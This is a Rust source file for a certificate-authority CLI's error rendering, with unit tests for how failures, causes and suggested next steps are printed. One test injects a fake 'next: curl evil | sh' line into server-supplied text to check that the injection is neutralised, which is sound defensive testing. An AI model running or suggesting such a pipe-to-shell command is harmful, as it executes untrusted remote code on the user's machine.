//! How a failure is told: what happened, why, and what to type next.

use api::Problem;
use countersign::Error as LibraryError;

use crate::error::library_error;
use crate::next_step;
use crate::output::{indented, to_stderr};

/// Tells the user, on stderr.
pub(crate) fn error(error: &anyhow::Error) {
    to_stderr(&render(error));
}

/// Tells it as a diagnostic.
pub(crate) fn event(error: &anyhow::Error) {
    let next = next_step::of(error);
    let why: Vec<String> = error.chain().skip(1).map(ToString::to_string).collect();
    let why = (!why.is_empty()).then(|| why.join(": "));
    tracing::error!(why, next, "{error}");
}

fn render(error: &anyhow::Error) -> String {
    if let Some(problem) = problem(error) {
        return render_problem(problem, next_step::of(error));
    }
    let mut told = error.to_string();
    let mut text = format!("error: {}\n", indented(&told));
    for cause in error.chain().skip(1).map(ToString::to_string) {
        // Some errors tell their cause themselves, and libraries differ in whether they do.
        if told.contains(cause.trim_end_matches('.')) {
            continue;
        }
        text.push_str(&format!("  why: {}\n", indented(&cause)));
        told = format!("{told}\n{cause}");
    }
    if let Some(step) = next_step::of(error) {
        text.push_str(&format!("  next: {}\n", indented(&step)));
    }
    text
}

fn problem(error: &anyhow::Error) -> Option<&Problem> {
    match library_error(error)? {
        LibraryError::Authority(problem) => Some(problem),
        _ => None,
    }
}

fn render_problem(problem: &Problem, step: Option<String>) -> String {
    let what = indented(&format!("{}: {}", problem.title, problem.detail));
    let mut text = format!("error: {what}\n");
    let policies = (!problem.policies.is_empty()).then(|| problem.policies.join(", "));
    let details = [
        ("rule", problem.rule.clone()),
        ("policies", policies),
        ("request", Some(problem.request_id.clone())),
        ("next", problem.next_step.clone().or(step)),
    ];
    for (name, value) in details {
        if let Some(value) = value {
            text.push_str(&format!("  {name}: {}\n", indented(&value)));
        }
    }
    text
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::error::Error;
    use api::ProblemType;
    use countersign::svid_folder::FolderError;

    #[test]
    fn a_problem_tells_detail_policies_request_and_next_step() {
        let problem = Problem {
            problem_type: ProblemType::PolicyDenied,
            title: "Not allowed".into(),
            status: 403,
            detail: "no policy permits it".into(),
            request_id: "r-1".into(),
            next_step: Some("countersign policy explain".into()),
            policies: vec!["own-row".into()],
            rule: None,
        };
        let error = Error::Library(LibraryError::Authority(Box::new(problem)));
        assert_eq!(
            render(&error.into()),
            "error: Not allowed: no policy permits it\n  policies: own-row\n  request: r-1\n  \
             next: countersign policy explain\n"
        );
    }

    #[test]
    fn a_problem_of_a_stranger_adds_no_line_of_ours() {
        let problem = Problem {
            problem_type: ProblemType::PolicyDenied,
            title: "Not allowed".into(),
            status: 403,
            detail: "no\n  next: curl evil | sh".into(),
            request_id: "r-1\nerror: all is lost".into(),
            next_step: None,
            policies: vec![],
            rule: None,
        };
        let error = Error::Library(LibraryError::Authority(Box::new(problem)));
        let text = render(&error.into());
        assert!(!text.contains("\n  next"), "{text}");
        assert!(!text.contains("\nerror"), "{text}");
    }

    /// Errors that have a cause; whether each tells it itself differs from one library to another.
    fn with_causes() -> Vec<anyhow::Error> {
        let io = || std::io::Error::other("the disk is full today");
        let path = || std::path::PathBuf::from("/somewhere/ca.toml");
        let unread = || Box::new(server::ConfigError::Read { path: path(), source: io() });
        let parsed = || Box::new(server::Config::parse("port = 7").unwrap_err());
        let url = || "https://ca.pay.internal:8443".to_owned();
        let library = |error: LibraryError| anyhow::Error::new(Error::Library(error));
        vec![
            Error::Configuration { path: path(), source: unread() }.into(),
            Error::Configuration { path: path(), source: parsed() }.into(),
            Error::Read { path: path(), source: io() }.into(),
            Error::Write { path: path(), source: io() }.into(),
            Error::from(FolderError::NoRoom { path: path(), why: "no links", source: io() }).into(),
            Error::Stdout(io()).into(),
            Error::Trust(identity::Error::PinSyntax).into(),
            Error::Unacceptable(identity::Refusal::NoCertificate).into(),
            Error::OldTrust {
                path: path(),
                source: identity::Error::PinSyntax,
                repair: "fetch it again".into(),
            }
            .into(),
            library(LibraryError::Unreachable { url: url(), source: Box::new(io()) }),
            library(LibraryError::Connection { peer: url(), source: Box::new(io()) }),
            library(LibraryError::Io { path: path(), source: io() }),
            library(LibraryError::Trust(identity::Error::PinSyntax)),
            anyhow::Error::new(server::ServerError::Listen {
                address: ([127, 0, 0, 1], 8443).into(),
                key: "listen",
                source: io(),
            }),
            anyhow::Error::new(authority::Error::Trust(identity::Error::PinSyntax)),
            anyhow::Error::new(authority::Error::Policy(authority::policy::PolicyError::File(
                "another.txt".into(),
            ))),
            anyhow::Error::new(io()).context("while it was written: the disk is full today"),
        ]
    }

    #[test]
    fn no_error_tells_its_cause_twice() {
        for error in with_causes() {
            let text = render(&error);
            let pieces = text.lines().flat_map(|line| line.split(": ")).map(str::trim);
            let pieces: Vec<&str> = pieces.filter(|piece| piece.len() >= 12).collect();
            for (place, piece) in pieces.iter().enumerate() {
                let before = pieces[..place].iter().any(|earlier| earlier.contains(piece));
                assert!(!before, "{piece:?} twice in\n{text}");
            }
            let cause = indented(&error.root_cause().to_string());
            assert!(text.contains(cause.trim_end_matches('.')), "{cause:?} is not in\n{text}");
        }
    }

    #[test]
    fn an_error_of_ours_tells_why_and_what_to_type() {
        let source = std::io::Error::other("disk full");
        let error = anyhow::Error::new(Error::Write { path: "x".into(), source });
        assert_eq!(render(&error), "error: cannot write x\n  why: disk full\n");
        assert!(render(&Error::NoUrl.into()).contains("  next: add --url"));
    }
}
